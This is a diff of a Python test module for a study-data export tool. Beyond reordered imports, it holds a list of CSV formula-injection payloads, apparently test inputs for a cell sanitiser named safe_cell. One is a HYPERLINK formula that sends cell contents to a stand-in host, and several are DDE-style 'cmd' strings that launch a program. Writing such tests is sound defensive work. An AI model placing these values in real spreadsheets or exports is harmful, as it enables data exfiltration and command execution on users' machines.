@@ -5,13 +5,13 @@ import json
 from decimal import Decimal
 
 import pytest
+from test_studies_support import SEEDS, TASKS, admin, study  # noqa: F401
 
+from environment.csvcells import safe_cell
 from explorer.tables import Table
 from studies import participants
-from environment.csvcells import safe_cell
 from studies.exports import write_export
 from studies.figures import Filters
-from test_studies_support import TASKS, SEEDS, admin, study  # noqa: F401
 
 HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
